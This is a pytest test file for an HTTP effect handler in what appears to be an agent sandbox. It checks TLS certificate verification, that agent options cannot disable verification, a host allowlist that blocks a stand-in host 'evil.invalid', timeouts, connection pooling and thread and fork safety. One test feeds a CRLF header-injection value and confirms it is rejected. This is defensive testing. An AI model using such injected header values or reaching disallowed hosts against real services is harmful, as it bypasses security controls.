# -- TLS -------------------------------------------------------------------------------------------------

def test_https_with_trusted_ca(make_handler, tls):
    h = make_handler(effects=["net"], limits=Limits(http_ca_bundle=tls["ca"]))
    for host in ("127.0.0.1", "localhost"):
        rec = _ok_record(h.dispatch("http", "get", [f"https://{host}:{tls['port']}/hello"]))
        assert rec["status"] == 200 and rec["body"] == b"hello from server"
    assert h.dispatch("net", "get", [f"https://127.0.0.1:{tls['port']}/hello"]) == \
        ok("hello from server")
    rec = _echo(h.dispatch("http", "post", [f"https://localhost:{tls['port']}/echo", b"tls",
                                             "text/plain"]))
    assert bytes.fromhex(rec["body"]) == b"tls"


def test_https_bad_certificates_are_tls_errors(make_handler, net, tls):
    h = make_handler(effects=["net"], limits=Limits(http_ca_bundle=tls["ca"]))
    # Signed by an unknown CA; the system store (the default) knows neither.
    for handler, port in ((h, tls["bad_port"]), (net, tls["port"])):
        msg = _http_err(handler.dispatch("http", "get", [f"https://127.0.0.1:{port}/hello"]),
                        "TlsError")
        assert msg
    # Issued for another name.
    assert _http_err(h.dispatch("http", "get", [f"https://127.0.0.1:{tls['wrong_port']}/"]),
                     "TlsError")
    r = h.dispatch("net", "get", [f"https://127.0.0.1:{tls['bad_port']}/hello"])
    assert r.name == "Err" and r.args[0].startswith("transport: ")


def test_https_to_a_plain_http_port_is_a_tls_error(net, server):
    assert _http_err(net.dispatch("http", "get", [f"https://127.0.0.1:{server.server_port}/"]),
                     "TlsError")


def test_no_agent_option_turns_verification_off(make_handler, tls):
    h = make_handler(effects=["net"])
    for name in ("insecure", "verify", "ssl_verifypeer"):
        r = h.dispatch("http", "send", [dict(_req(f"https://127.0.0.1:{tls['port']}/"),
                                             **{name: False})])
        assert _http_err(r, "TlsError")


# -- the shared request() API (agent.* calls it) ---------------------------------------------------

def test_request_api(make_handler, server):
    h = make_handler(effects=["net"], hosts=["127.0.0.1"])
    status, headers, body = lhttp.request(h, "post", server.base + "/echo",
                                          headers=[("X-A", "1")], body=b"{}")
    assert status == 200 and isinstance(headers, Map) and headers["content-type"] == \
        "application/json"
    rec = json.loads(body)
    assert ["X-A", "1"] in rec["headers"] and bytes.fromhex(rec["body"]) == b"{}"
    status, _, body = lhttp.request(h, "GET", server.base + "/hello",
                                    headers=Map({"accept": "text/plain"}))
    assert (status, body) == (200, b"hello from server")
    with pytest.raises(lhttp.HttpFailure) as ei:
        lhttp.request(h, "GET", "http://evil.invalid/")
    assert ei.value.kind == "denied"
    assert ei.value.message == ("net call to host `evil.invalid` not in "
                                '--allow-net-host ["127.0.0.1"]')
    with pytest.raises(lhttp.HttpFailure) as ei:
        lhttp.request(h, "GET", "http://evil.invalid/", check_host=False)
    assert ei.value.kind == "network"
    with pytest.raises(lhttp.HttpFailure) as ei:
        lhttp.request(h, "GET", server.base + "/slow?ms=1000", timeout_s=0.1)
    assert ei.value.kind == "timeout"
    with pytest.raises(lhttp.HttpFailure) as ei:
        lhttp.request(h, "GET", server.base + "/", headers=[("x", "a\r\nb: c")])
    assert ei.value.kind == "decode"
    with pytest.raises(lhttp.HttpFailure) as ei:
        lhttp.request(h, "GET", f"https://127.0.0.1:{server.server_port}/")
    assert ei.value.kind == "tls"
    with pytest.raises(lhttp.HttpFailure) as ei:
        lhttp.request(h, "TRACE", server.base + "/")
    assert ei.value.kind == "decode"


# -- concurrency and resources -----------------------------------------------------------------------

def _fd_count() -> int:
    return len(os.listdir("/proc/self/fd"))


@pytest.mark.skipif(not os.path.isdir("/proc/self/fd"), reason="needs /proc")
def test_eight_threads_two_hundred_requests_each(make_handler, server):
    base_fds = _fd_count()
    h = make_handler(effects=["net"], hosts=["127.0.0.1"])
    errors: list = []
    counts = [0] * 8
    barrier = threading.Barrier(8)

    def worker(i):
        fork = h.fork()
        barrier.wait(10)
        for n in range(200):
            try:
                r = fork.dispatch("http", "get", [f"{server.base}/status/200?body={i}-{n}"])
                rec = r.args[0]
                if r.name != "Ok" or rec["status"] != 200 or rec["body"] != f"{i}-{n}".encode():
                    errors.append(r)
                else:
                    counts[i] += 1
            except Exception as e:  # pragma: no cover - reported below
                errors.append(e)

    threads = [threading.Thread(target=worker, args=(i,)) for i in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    assert not any(t.is_alive() for t in threads)
    assert errors == [] and counts == [200] * 8
    stats = lhttp.pool_stats(h)
    assert stats["in_use"] == 0 and 1 <= stats["idle"] <= 8
    h.close()
    assert lhttp.pool_stats(h) == {"idle": 0, "in_use": 0}
    deadline = time.monotonic() + 5
    while _fd_count() > base_fds + 2 and time.monotonic() < deadline:
        time.sleep(0.05)
    assert _fd_count() <= base_fds + 2
    with pytest.raises(EffectError, match="closed"):
        h.dispatch("http", "get", [server.base + "/hello"])


def test_connections_are_reused(make_handler, server):
    h = make_handler(effects=["net"])
    ports = {_echo(h.dispatch("http", "get", [server.base + "/echo"]))["client_port"]
             for _ in range(20)}
    assert len(ports) == 1  # one keep-alive connection carried all 20
    assert lhttp.pool_stats(h) == {"idle": 1, "in_use": 0}


def test_transfers_run_in_parallel(make_handler, server):
    # pycurl releases the GIL while libcurl waits: 8 half-second requests
    # from 8 threads take about half a second, not four.
    h = make_handler(effects=["net"])
    results: list = []

    def one():
        results.append(h.fork().dispatch("http", "get", [server.base + "/slow?ms=500"]))

    threads = [threading.Thread(target=one) for _ in range(8)]
    t = time.monotonic()
    for th in threads:
        th.start()
    for th in threads:
        th.join(10)
    assert time.monotonic() - t < 2.5
    assert len(results) == 8 and all(_ok_record(r)["status"] == 200 for r in results)


def test_close_during_a_request(make_handler, server):
    h = make_handler(effects=["net"])
    out: list = []
    th = threading.Thread(target=lambda: out.append(
        h.dispatch("http", "get", [server.base + "/slow?ms=400"])))
    th.start()
    time.sleep(0.1)
    assert lhttp.pool_stats(h)["in_use"] == 1
    h.close()
    th.join(5)
    assert _ok_record(out[0])["status"] == 200  # the request in flight finishes
    assert lhttp.pool_stats(h) == {"idle": 0, "in_use": 0}  # and its handle is closed


def test_timeout_ms_cannot_exceed_the_operator_bound(make_handler, server):
    h = make_handler(effects=["net"], limits=Limits(http_timeout_s=0.2))
    t = time.monotonic()
    r = h.dispatch("http", "send", [_req(server.base + "/slow?ms=1500",
                                         timeout_ms=some(60_000))])
    assert r == err(Variant("TimeoutError", ())) and time.monotonic() - t < 1.2
    r = h.dispatch("http", "send", [_req(server.base + "/hello", timeout_ms=some(1 << 62))])
    assert _ok_record(r)["status"] == 200


@pytest.mark.skipif(not hasattr(os, "fork"), reason="needs fork")
def test_forked_child_does_not_share_connections(make_handler, server):
    h = make_handler(effects=["net"])
    assert _ok_record(h.dispatch("http", "get", [server.base + "/hello"]))["status"] == 200
    pid = os.fork()
    if pid == 0:  # pragma: no cover - the child
        code = 1
        try:
            r = h.dispatch("http", "get", [server.base + "/hello"])
            if r.name == "Ok" and r.args[0]["body"] == b"hello from server":
                code = 0
        finally:
            os._exit(code)
    _, status = os.waitpid(pid, 0)
    assert os.waitstatus_to_exitcode(status) == 0
    ports = {_echo(h.dispatch("http", "get", [server.base + "/echo"]))["client_port"]
             for _ in range(3)}
    assert len(ports) == 1


def test_failures_return_the_handle_to_the_pool(make_handler, server):
    h = make_handler(effects=["net"], limits=Limits(http_body_bytes=10))
    for url in (f"http://127.0.0.1:{_closed_port()}/", server.base + "/bytes?n=100",
                server.base + "/bytes?n=100&chunked=1"):
        assert h.dispatch("http", "get", [url]).name == "Err"
    assert lhttp.pool_stats(h)["in_use"] == 0
    assert _ok_record(h.dispatch("http", "get", [server.base + "/status/200"]))["status"] == 200
